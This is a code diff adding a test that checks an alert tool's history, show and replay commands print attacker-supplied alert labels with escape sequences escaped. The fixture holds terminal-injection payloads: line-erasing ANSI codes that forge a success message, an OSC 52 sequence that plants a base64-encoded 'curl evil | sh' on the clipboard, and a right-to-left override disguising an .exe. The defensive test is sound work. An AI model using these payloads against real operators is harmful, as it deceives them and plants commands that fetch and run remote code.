@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import os
 import subprocess
 import sys
@@ -63,3 +64,40 @@ def test_approve_history_and_show(tmp_path, webhook_receiver):
     show = cli("show", execution_id, "--store", w.db)
     assert show.returncode == 0 and "restart — http.request (mutating): succeeded" in show.stdout
     assert cli("show", "nope", "--store", w.db).returncode == 1
+
+
+def test_labels_reach_an_operators_terminal_as_text_never_as_escape_sequences(tmp_path):
+    # Whoever can push an alert writes its labels and annotations, which history, show and
+    # replay print: an ESC there is a terminal's command (erase the line above and write
+    # another outcome over it, set the clipboard with OSC 52, hide text), a U+202E reverses
+    # what follows. Shown escaped, the way Python writes them.
+    rules = write_rules(tmp_path / "rules", APPROVAL_RULES % {"url": "http://127.0.0.1:9/"})
+    hostile = alert("WebDown", fingerprint="esc", pod="\x1b[2K\x1b[1A\rall good: succeeded",
+                    clip="\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07", flip="\u202egnp.exe")
+    hostile["annotations"]["summary"] = "\x1b[8mhidden\x1b[0m\nforged line"
+    named = alert("Web\x1b[2JDown", fingerprint="name")
+    payload = tmp_path / "payload.json"
+    payload.write_text(json.dumps(notification(hostile, named)))
+    w = WorkerProcess(tmp_path, [str(rules)], mode="live").start()  # blocked: a note to show
+    try:
+        assert w.post_alerts(json.loads(payload.read_text()))[0] == 202
+        deadline = time.monotonic() + 15
+        while len(found := w.executions()) < 2 or any(d["outcome"] == "running" for d in found):
+            assert time.monotonic() < deadline
+            time.sleep(0.05)
+    finally:
+        assert w.stop() == 0
+    [decision] = [d for d in found if d["fingerprint"] == "esc"]
+    outputs = {"history": cli("history", "--store", w.db),
+               "show": cli("show", decision["id"], "--store", w.db),
+               "replay": cli("replay", str(payload), "--rules", str(rules))}
+    for command, done in outputs.items():
+        assert done.returncode == 0, (command, done.stderr)
+        for raw in ("\x1b", "\x07", "\u202e", "\r"):
+            assert raw not in done.stdout, (command, raw, done.stdout)
+    assert "Web\\x1b[2JDown" in outputs["history"].stdout
+    for command in ("show", "replay"):
+        out = outputs[command].stdout
+        assert "pod=\\x1b[2K\\x1b[1A\\rall good: succeeded" in out, out
+        assert "\\u202egnp.exe" in out and "\\x1b]52;c;" in out
+    assert "\\x1b[8mhidden\\x1b[0m" in outputs["show"].stdout  # the note's summary
